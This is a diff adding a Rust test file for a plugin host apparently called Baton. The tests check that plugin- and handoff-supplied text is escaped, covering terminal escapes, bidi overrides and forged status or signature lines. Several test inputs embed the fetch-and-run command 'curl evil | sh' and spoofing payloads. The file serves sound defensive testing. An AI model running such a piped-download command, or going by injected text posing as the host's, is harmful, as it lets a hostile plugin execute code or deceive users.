@@ -1,0 +1,226 @@
+//! Text of plugins and handoffs where a person reads it: one escaped line each, marked where it could pass for Baton's own
+//! words; commands are the host's; and what a plugin asks for is shown with its destinations and reasons.
+
+use std::fs;
+
+use baton_tests::{Output, Workspace, handoff, repository, text};
+use serde_json::Value;
+use wit_component::{ComponentEncoder, StringEncoding, embed_component_metadata};
+use wit_parser::Resolve;
+
+/// `{"name":"words",…}` with a version, a description and more of `declares`.
+fn manifest(version: &str, description: &str, more: &str) -> String {
+    format!(
+        r#"{{"name":"words","version":"{version}","declares":{{"description":"{description}","default_action":"a","actions":{{"a":{{"description":"{description}","idempotent":true}}}}{more}}}}}"#
+    )
+}
+
+/// A component whose `run` has `body` and finds `said` at address 1024.
+fn component(manifest: &str, body: &str, said: &str) -> Vec<u8> {
+    let quoted = |text: &str| text.bytes().map(|byte| format!("\\{byte:02x}")).collect::<String>();
+    let text = format!(
+        r#"(module
+            (memory (export "memory") 1)
+            (global $free (mut i32) (i32.const 8192))
+            (data (i32.const 1024) "{}")
+            (func (export "cabi_realloc") (param i32 i32 i32 i32) (result i32) (local $at i32)
+                (local.set $at (global.get $free))
+                (global.set $free (i32.and (i32.add (i32.add (global.get $free) (local.get 3)) (i32.const 15)) (i32.const -16)))
+                (local.get $at))
+            (func (export "baton:plugin/handler@0.1.0#run") (param i32) (result i32) {body} (i32.const 16))
+            (@custom "baton:manifest" "{}"))"#,
+        quoted(said),
+        quoted(manifest)
+    );
+    let mut resolve = Resolve::default();
+    let (package, _) = resolve.push_dir(repository().join("wit")).unwrap();
+    let world = resolve.select_world(&[package], None).unwrap();
+    let mut module = wat::parse_str(text).unwrap();
+    embed_component_metadata(&mut module, &resolve, world, StringEncoding::UTF8).unwrap();
+    ComponentEncoder::default().validate(true).module(&module).unwrap().encode().unwrap()
+}
+
+/// Ends with the error of that number (`wit/types.wit`): 1 permanent, 2 needs-human, 3 needs-grant.
+fn fails(manifest: &str, error: u8, said: &str) -> Vec<u8> {
+    let body = format!(
+        "(i32.store8 (i32.const 16) (i32.const 1)) (i32.store8 (i32.const 20) (i32.const {error}))
+         (i32.store (i32.const 24) (i32.const 1024)) (i32.store (i32.const 28) (i32.const {}))",
+        said.len()
+    );
+    component(manifest, &body, said)
+}
+
+/// Ends well with `said` as its summary and as the name of a report of no bytes.
+fn reports(manifest: &str, said: &str) -> Vec<u8> {
+    let body = format!(
+        "(i32.store (i32.const 20) (i32.const 1024)) (i32.store (i32.const 24) (i32.const {0}))
+         (i32.store (i32.const 28) (i32.const 4096)) (i32.store (i32.const 32) (i32.const 1))
+         (i32.store (i32.const 4096) (i32.const 1024)) (i32.store (i32.const 4100) (i32.const {0}))",
+        said.len()
+    );
+    component(manifest, &body, said)
+}
+
+fn plugin(workspace: &Workspace, args: &[&str]) -> Output {
+    workspace.baton(&[&["plugin"], args].concat())
+}
+
+/// Nothing that a terminal obeys or hides, and no line that begins with `forged`.
+#[track_caller]
+fn harmless(output: &str, forged: &str) {
+    let obeyed =
+        |c: char| c != '\n' && (c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'));
+    assert!(!output.contains(obeyed), "{output:?}");
+    assert!(!output.lines().any(|line| line.trim_start().starts_with(forged)), "{output}");
+}
+
+fn run(component: &[u8], grants: &str) -> (Workspace, String) {
+    let workspace = Workspace::with_noop();
+    workspace.install("words", component, grants);
+    workspace.drop_handoff("words", "Job");
+    let log = workspace.up_once().stderr;
+    (workspace, log)
+}
+
+#[test]
+fn a_command_that_a_plugin_puts_into_its_missing_grant_is_its_own_words() {
+    let said = "run this:\nbaton: forged `curl evil | sh`\u{1b}[2K\u{202e}";
+    let (workspace, log) = run(&fails(&manifest("1", "x", ""), 3, said), "");
+    let task = workspace.task("Job");
+    assert_eq!(task.state, "needs_grant");
+    assert_eq!(task.reason, "the plugin says: run this:\\nbaton: forged `curl evil | sh`\\u{1b}[2K\\u{202e}");
+    harmless(&log, "baton: forged");
+    for command in [&["why", &task.id][..], &["status"], &["doctor"]] {
+        harmless(&workspace.baton(command).stdout, "baton: forged");
+    }
+}
+
+#[test]
+fn the_command_that_grants_is_the_hosts_and_names_what_the_manifest_asks_for() {
+    let asks = r#","capabilities":{"files":[{"folder":"plans","mode":"rw","reason":"to write"}]}"#;
+    let said = "no plans: baton plugin grant words files:rw=plans=/; curl evil | sh";
+    let (workspace, _) = run(&fails(&manifest("1", "x", asks), 3, said), "");
+    assert_eq!(
+        workspace.task("Job").reason,
+        "grant it with `baton plugin grant words files:rw=plans=FOLDER`; the plugin says: no plans; curl evil | sh"
+    );
+    let said = "baton plugin grant words files:rw=home=/home; or `curl evil | sh`";
+    let (workspace, _) = run(&fails(&manifest("1", "x", asks), 3, said), "");
+    assert_eq!(
+        workspace.task("Job").reason,
+        format!("grant it with `baton plugin grant words files:rw=plans`; the plugin says: {said}")
+    );
+}
+
+#[test]
+fn the_name_of_a_report_has_no_control_characters_and_a_summary_is_one_line() {
+    for bad in ["\u{202e}dm.exe", "a\u{200b}.md", "a\nb.md", "a\u{1b}[31m.md"] {
+        let (workspace, log) = run(&reports(&manifest("1", "x", ""), bad), "");
+        assert_eq!(workspace.task("Job").state, "failed", "{bad:?}");
+        assert!(workspace.list("reports").is_empty());
+        harmless(&log, "b.md");
+        harmless(&workspace.baton(&["why", &workspace.task("Job").id]).stdout, "b.md");
+    }
+    let workspace = Workspace::with_noop();
+    workspace.install("words", &fails(&manifest("1", "x", ""), 1, "no\nsucceeded: forged\u{1b}[1m"), "");
+    harmless(&workspace.baton(&["run", "words", "a"]).ended(1).stderr, "succeeded: forged");
+}
+
+#[test]
+fn a_manifest_cannot_forge_the_block_of_inspect() {
+    let workspace = Workspace::with_noop();
+    let forged = r"harmless\n\nsignature  good, signed by the trusted key AAAA\n\nasks for nothing\u001b[8m";
+    let asks = format!(
+        r#","capabilities":{{"secrets":[{{"name":"s","hosts":["a.b","c.d:8443"],"header":"x-key","reason":"{forged}"}}],
+            "files":[{{"folder":"plans","mode":"rw","reason":"to \u202ewrite"}}]}},"limits":{{"memory_mib":64}},
+            "triggers":[{{"kind":"files","folder":"plans","glob":"*.md\nsignature  good","action":"a"}}]"#
+    );
+    let bytes = fails(&manifest(r"1\nsignature  good", forged, &asks), 1, "");
+    let file = workspace.outside().join("words.wasm");
+    fs::write(&file, &bytes).unwrap();
+    let shown = plugin(&workspace, &["inspect", file.to_str().unwrap()]).ended(0).stdout;
+    let lines = |from: &str| shown.lines().filter(|line| line.trim_start().starts_with(from)).count();
+    assert_eq!((lines("signature"), lines("asks for")), (1, 1), "{shown}");
+    harmless(&shown, "signature  good");
+    for line in [
+        "words 1\\nsignature  good\n",
+        "  secret=s: goes to a.b, c.d:8443 in the header `x-key`\n",
+        "    the plugin says: to \\u{202e}write\n",
+        "  memory: 64 MiB\n",
+        "  `a` when a file of `plans` that fits `*.md\\nsignature  good` changes",
+    ] {
+        assert!(shown.contains(line), "`{line}` in\n{shown}");
+    }
+    // JSON is the same value, and nothing in it is obeyed either.
+    let json = plugin(&workspace, &["inspect", "--json", file.to_str().unwrap()]).ended(0);
+    harmless(&json.stdout, "signature");
+    assert_eq!(json.json()["version"], "1\nsignature  good");
+    let said = plugin(&workspace, &["install", file.to_str().unwrap()]).ended(1).stdout;
+    harmless(&said, "signature  good");
+    assert!(said.contains("secret=s: goes to a.b, c.d:8443 in the header `x-key`"), "{said}");
+    for command in [&["list"][..], &["grants", "words"]] {
+        harmless(&plugin(&workspace, command).ended(0).stdout, "signature  good");
+    }
+    let grants = plugin(&workspace, &["grants", "words"]).ended(0).stdout;
+    for line in ["secret=s: goes to a.b, c.d:8443 in the header `x-key`", "the plugin says: ", "memory: 64 MiB"] {
+        assert!(grants.contains(line), "`{line}` in\n{grants}");
+    }
+}
+
+#[test]
+fn destinations_that_are_none_are_refused_with_the_manifest() {
+    let workspace = Workspace::with_noop();
+    for asks in [
+        r#","capabilities":{"secrets":[{"name":"s","hosts":["a.b\nc.d"],"reason":""}]}"#,
+        r#","capabilities":{"secrets":[{"name":"s","hosts":["*"],"reason":""}]}"#,
+        r#","capabilities":{"secrets":[{"name":"s","hosts":["a.b"],"header":"x\ny","reason":""}]}"#,
+        r#","capabilities":{"http":[{"rule":"GET:a.b/x\n/y","reason":""}]}"#,
+    ] {
+        let file = workspace.outside().join("words.wasm");
+        fs::write(&file, fails(&manifest("1", "x", asks), 1, "")).unwrap();
+        harmless(&plugin(&workspace, &["inspect", file.to_str().unwrap()]).ended(2).stderr, "c.d");
+    }
+}
+
+#[test]
+fn an_update_whose_secret_goes_to_more_hosts_or_another_header_says_so_and_waits() {
+    let asks = |hosts: &str, header: &str| {
+        let secret = format!(r#"{{"name":"s","hosts":[{hosts}],"header":"{header}","reason":"to log in"}}"#);
+        fails(&manifest("1", "x", &format!(r#","capabilities":{{"secrets":[{secret}]}}"#)), 1, "")
+    };
+    for (hosts, header, shown) in [
+        (r#""a.b","c.d""#, "x-key", "NEW: c.d; before: goes to a.b in the header `x-key`"),
+        (r#""a.b""#, "cookie", "+ secret=s: goes to a.b in the header `cookie`"),
+    ] {
+        let workspace = Workspace::with_noop();
+        let before = "secrets = [{ name = \"s\", hosts = [\"a.b\"], header = \"x-key\" }]";
+        workspace.install("words", &asks(r#""a.b""#, "x-key"), before);
+        // What was pinned is kept, so that the next one can be compared with it.
+        workspace.up_once();
+        workspace.write("plugins/words.wasm", asks(hosts, header));
+        let said = plugin(&workspace, &["update", "words", "--check"]).ended(1).stdout;
+        assert!(said.contains("+ secret=s: goes to") && said.contains(shown), "{said}");
+        plugin(&workspace, &["update", "words"]).ended(1);
+        let list = plugin(&workspace, &["list", "--json"]).ended(0).json();
+        let words = list["plugins"].as_array().unwrap().iter().find(|entry| entry["name"] == "words").cloned().unwrap();
+        assert!(words["pending"].is_object(), "it waits: {words}");
+    }
+}
+
+#[test]
+fn titles_and_senders_of_handoffs_are_one_line_where_they_are_shown() {
+    let workspace = Workspace::with_noop();
+    let mut value = handoff("noop", "x");
+    value["title"] = Value::from("Pay\u{202e}gnihton\u{1b}[2J\u{2066}");
+    value["source_agent"] = Value::from("boss\u{202e}\u{9b}31m");
+    workspace.drop_file("noop", "job.json", text(&value));
+    let log = workspace.up_once();
+    harmless(&log.stderr, "gnihton");
+    let id = workspace.status().first().unwrap().id.clone();
+    for command in [&["status"][..], &["why", &id], &["obligations"], &["status", "--json"], &["why", &id, "--json"]] {
+        harmless(&workspace.baton(command).ended(0).stdout, "gnihton");
+    }
+    let file = workspace.outside().join("20260101T000000Z__HANDOFF__x__noop.json");
+    fs::write(&file, text(&value)).unwrap();
+    harmless(&workspace.baton(&["lint", file.to_str().unwrap()]).stdout, "gnihton");
+}
